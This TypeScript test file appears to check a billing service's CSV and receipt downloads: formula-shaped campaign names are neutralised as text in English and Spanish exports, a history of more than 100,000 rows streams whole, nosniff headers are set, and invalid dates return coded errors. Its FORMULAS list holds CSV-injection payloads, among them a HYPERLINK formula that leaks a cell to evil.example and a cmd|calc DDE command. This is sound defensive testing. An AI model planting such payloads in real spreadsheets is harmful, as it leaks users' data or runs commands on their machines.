/**
 * The billing downloads as an attacker would use them: a campaign named like a spreadsheet formula reaches the CSV
 * as text a spreadsheet shows and never runs, in English and in Spanish; a long history comes out whole; a
 * browser is told never to guess the type of a download; and days out of any calendar are refused with a coded,
 * translated error, never a 500.
 */
import { get } from 'node:http';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { serverForTests } from '../support/server';
import { call, errorOf } from '../api/account-helpers';
import { campaignInput, createCampaignCompany, submitCampaign } from '../support/campaigns';
import { BillingHistoryDocument } from '../../src/graphql/generated/graphql';
import { ledgerAccount } from '../../server/services/ledger';
import english from '../../locales/en/validation.json';
import spanish from '../../locales/es/validation.json';

const api = serverForTests();

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '+1+cmd|calc!A0',
  '-2+3 launch',
  '@SUM(A1:A9) spring',
];

async function download(token: string, query = ''): Promise<Response> {
  return fetch(`${api.server.url}/billing/export.csv${query}`, {
    headers: { authorization: `Bearer ${token}` },
  });
}

function downloadAlone(token: string): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const request = get(
      `${api.server.url}/billing/export.csv`,
      { agent: false, headers: { authorization: `Bearer ${token}` } },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () =>
          resolve({ status: response.statusCode ?? 0, text: Buffer.concat(chunks).toString('utf8') }),
        );
        response.on('error', reject);
      },
    );
    request.on('error', reject);
  });
}

describe('the billing CSV', () => {
  it('writes campaign names that start like a formula as text, in both languages, and numbers as numbers', async () => {
    const owner = await createCampaignCompany(api.server, { balance: 5_000_000 });
    for (const name of FORMULAS) await submitCampaign(api.server, owner, campaignInput(owner, { name }));
    for (const [lang, delimiter, description, amount] of [
      ['en', ',', 'Description', 'Amount'],
      ['es', ';', 'Descripción', 'Importe'],
    ] as const) {
      const response = await download(owner.token, `?lang=${lang}`);
      expect(response.status).toBe(200);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      const rows = parse(await response.text(), { columns: true, bom: true, delimiter }) as Array<
        Record<string, string>
      >;
      const charges = rows.filter((row) => row[amount]!.startsWith('-'));
      expect(charges.map((row) => row[description])).toEqual(FORMULAS.map((name) => `'${name}`));
      // A charge's amount stays a plain negative number a spreadsheet adds up.
      expect(charges.every((row) => /^-\d+[.,]\d{2}$/.test(row[amount]!))).toBe(true);
    }
  });

  it('streams a history longer than 100,000 movements whole, with the balance of each', async () => {
    const owner = await createCampaignCompany(api.server);
    const movements = 100_001;
    // Written straight into the ledger, balanced two legs each, without the per-row checks.
    await api.server.app.services.db.transaction(async (tx) => {
      await tx.execute(sql`set local session_replication_role = replica`);
      await tx.execute(sql`insert into ledger_transactions (company_id, kind, idempotency_key, created_at)
        select ${owner.id}::uuid, 'opening_balance', 'bulk-' || g, now() - make_interval(secs => ${movements} - g)
        from generate_series(1, ${movements}) g`);
      await tx.execute(sql`insert into ledger_postings (transaction_id, account, amount_cents)
        select id, account, amount from ledger_transactions,
          (values (${ledgerAccount.wallet(owner.id)}, 1), (${ledgerAccount.openingBalances}, -1)) legs(account, amount)
        where company_id = ${owner.id}::uuid and kind = 'opening_balance'`);
    });
    // On a connection of its own: the embedded database held the process while it wrote, so a kept-alive one
    // may have been closed meanwhile.
    const { status, text } = await downloadAlone(owner.token);
    expect(status).toBe(200);
    const lines = text.trimEnd().split('\n');
    expect(lines).toHaveLength(movements + 1);
    expect(lines[1]!.split(',')[7]).toBe('0.01');
    expect(lines.at(-1)!.split(',')[7]).toBe('1000.01');
  }, 240_000);

  it('tells the browser not to guess the type of a receipt', async () => {
    const owner = await createCampaignCompany(api.server, { balance: 5_000_000 });
    await submitCampaign(api.server, owner, campaignInput(owner));
    const history = await call(api.server, BillingHistoryDocument, {}, owner.token);
    const charge = history.data!.BillingHistory.items.find((entry) => entry.kind === 'campaign_charge')!;
    const response = await fetch(`${api.server.url}/billing/receipts/${charge.id}.pdf`, {
      headers: { authorization: `Bearer ${owner.token}` },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('days out of range', () => {
  it('are refused with coded, translated errors by the history and by the CSV', async () => {
    const owner = await createCampaignCompany(api.server);
    const reversed = { from: '9999-12-31', to: '0000-01-01' };
    const answer = await call(api.server, BillingHistoryDocument, reversed, owner.token);
    const error = errorOf(answer);
    expect(error.extensions.code).toBe('BAD_USER_INPUT');
    const fields = error.extensions.fields as Record<string, { code: keyof typeof english }>;
    expect(fields.to!.code).toBe('dateFrom');
    for (const texts of [english, spanish]) expect(texts[fields.to!.code]).toBeTruthy();
    const csv = await download(owner.token, '?from=9999-12-31&to=0000-01-01');
    expect(csv.status).toBe(400);
    expect(((await csv.json()) as { fields: object }).fields).toEqual(fields);

    const backwards = await call(
      api.server,
      BillingHistoryDocument,
      { from: '2026-03-02', to: '2026-03-01' },
      owner.token,
    );
    expect((errorOf(backwards).extensions.fields as { to: { code: string } }).to.code).toBe('dateRange');
    for (const texts of [english, spanish]) expect(texts.dateRange).toBeTruthy();
    const last = await call(api.server, BillingHistoryDocument, { from: '9999-12-31' }, owner.token);
    expect(last.data!.BillingHistory.total).toBe(0);
    const notADay = await call(api.server, BillingHistoryDocument, { to: '2026-02-30' }, owner.token);
    expect((errorOf(notADay).extensions.fields as { to: { code: string } }).to.code).toBe('date');
  });
});
